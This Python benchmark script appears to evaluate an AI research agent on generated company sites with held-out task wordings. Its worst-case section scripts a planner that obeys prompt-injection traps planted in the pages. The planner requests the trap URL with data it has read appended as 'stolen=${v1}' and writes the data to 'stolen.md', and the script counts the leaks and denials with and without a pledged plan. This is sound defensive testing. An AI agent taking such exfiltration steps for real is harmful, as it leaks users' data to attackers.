"""Does the talk's demo come out, for held-out companies and wordings? Do its pages' traps get anything?

    python benchmarks/demo.py [--sites 10] [--model NAME [--read-by-rules]] [--side test]

Each site (recipes/company_site.py) has four companies; for each of them the researcher app is asked once,
in one of the held-out wordings: collect the rounds, find missing valuations by ratio, plot with a trend,
draw a picture. What comes out is judged by the generator's truth (recipes/talk_demo.py). Steps are by the
planner, which is a program and no model, or by a model; with --read-by-rules the model takes the steps, and
pages are read in quarantine by the program, which says which half of the task a model fails at.

Below it, the worst case: the same planner, which at every turn besides obeys a trap of the site, by
ground truth: it opens the trap's address, with what it has read in it, and writes that into a file. What
reached the trap's server and which files stand there are counted, with the plan pledged beforehand and
without, the rival. The planner alone is the upper bound: what the kernel, the devices and the app make
possible when no step is chosen wrong.
"""

import argparse
import random
import sys
import tempfile
import time
from collections.abc import Sequence
from pathlib import Path
from typing import cast

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "recipes"))

import company_site
import demo_mind
import talk_demo
from machine import describe
from pairs import table

from twofold.kernel import minds
from twofold.kernel.minds import Mind, Said, Turn
from twofold.measure.attempts import wilson

PARTS = ("rounds", "by_ratio", "plot", "picture", "safe", "right")


def obeying(traps: Sequence[str], *, pledges: bool) -> demo_mind.Planner:
    """Return the planner that obeys traps besides: from its third turn on, when it has read a page."""

    def astray(turn: int) -> list[demo_mind.Step]:
        if turn < 3 or not traps:
            return []
        trap = traps[turn % len(traps)].rstrip(".")
        return [
            ("browser_read", {"url": trap}),
            ("browser_read", {"url": f"{trap}&stolen=${{v1}}"}),
            ("files_write", {"path": "stolen.md", "text": "${v1}"}),
        ]

    return demo_mind.Planner(astray, pledges=pledges)


class Halved:
    """A model that takes the steps; what is asked in quarantine is answered by rules."""

    def __init__(self, model: Mind) -> None:
        self._model, self._rules = model, demo_mind.Planner()

    def __getattr__(self, name: str) -> object:
        return getattr(self._model, name)

    def say(self, turn: Turn) -> Said:
        return (self._model if turn.schema is None else self._rules).say(turn)


def studied(
    site_seed: int, side: company_site.Side, mind: str | None, worst: str = "", *, rules: bool = False
) -> list[dict[str, float]]:
    """Return what came of each company of a site: 1 or 0 for each part, and counts."""
    found = []
    with talk_demo.world(site_seed, side) as (site, address, trap), tempfile.TemporaryDirectory() as folder:
        for number, who in enumerate(site.companies):
            rng = random.Random(f"{site_seed} {number}")
            task = f"{company_site.request(rng, side, who, talk_demo.UNTIL)} Search at {address}."
            chosen: Mind = demo_mind.Planner()
            if worst:
                chosen = obeying(site.traps, pledges=worst == "pledged")
            elif mind is not None:
                chosen = minds.find(mind)
                chosen = cast(Mind, Halved(chosen)) if rules else chosen
            trap.asked.clear()
            began = time.perf_counter()
            limits = talk_demo.LIMITS if mind and not worst else None
            done = talk_demo.study(task, chosen, Path(folder) / str(number), trap, limits=limits)
            judged = talk_demo.judge(done, who)
            if not judged.right and not worst:
                print(
                    f"site {site_seed}, {who.name}: {judged}; {done.state.stopped or 'done'}", file=sys.stderr
                )
            found.append(
                {name: float(getattr(judged, name)) for name in PARTS}
                | {
                    "missing": float(bool(who.by_ratio())), "reached": len(done.reached),
                    "denied": len(done.denied),
                    "stolen": float((done.folder / "stolen.md").exists()), "approvals": done.approvals,
                    "seconds": time.perf_counter() - began, "calls": done.state.spent.calls or 0,
                }
            )  # fmt: skip
    return found


def main() -> int:
    parser = argparse.ArgumentParser(description=(__doc__ or "").splitlines()[0])
    parser.add_argument("--sites", type=int, default=10, help="each with four companies")
    parser.add_argument("--model", help="a model, or a name of kernels.toml; default: the planner")
    parser.add_argument("--read-by-rules", action="store_true", help="pages are read by the program")
    parser.add_argument("--side", choices=("train", "test"), default="test", help="test: what is held out")
    options = parser.parse_args()
    seeds = range(100, 100 + options.sites)
    read = ", pages read by rules" if options.read_by_rules else ""
    print(f"{describe()}; side {options.side}, steps by {options.model or 'the planner, a program'}{read}")
    rows = [
        one
        for seed in seeds
        for one in studied(seed, options.side, options.model, rules=options.read_by_rules)
    ]
    cells = []
    for name in PARTS:
        some = [row for row in rows if row["missing"]] if name == "by_ratio" else rows
        good = sum(row[name] for row in some)
        low, high = wilson(int(good), len(some))
        cells.append(
            [name.replace("_", " "), f"{good:.0f}/{len(some)}", f"{100 * low:.0f} to {100 * high:.0f} %"]
        )
    print(table(["part", "right", "95 % interval"], cells))
    means = {name: sum(row[name] for row in rows) / len(rows) for name in ("approvals", "calls", "seconds")}
    print(", ".join(f"{value:.1f} {name}" for name, value in means.items()), "a study\n")
    worst = []
    for how in ("pledged", "not pledged"):
        rows = [
            one for seed in seeds[: max(1, len(seeds) // 4)] for one in studied(seed, options.side, None, how)
        ]
        worst.append(
            [how, f"{sum(row['reached'] for row in rows):.0f}", f"{sum(row['stolen'] for row in rows):.0f}",
             f"{sum(row['denied'] for row in rows):.0f}", f"{sum(row['approvals'] for row in rows):.0f}",
             f"{sum(row['rounds'] * row['by_ratio'] for row in rows):.0f}/{len(rows)}"]
        )  # fmt: skip
    print("Worst case: obeys every trap, by ground truth, besides its task")
    print(table(["plan", "requests that reached a trap", "files", "denied", "approvals", "task done"], worst))
    return 0


if __name__ == "__main__":
    sys.exit(main())
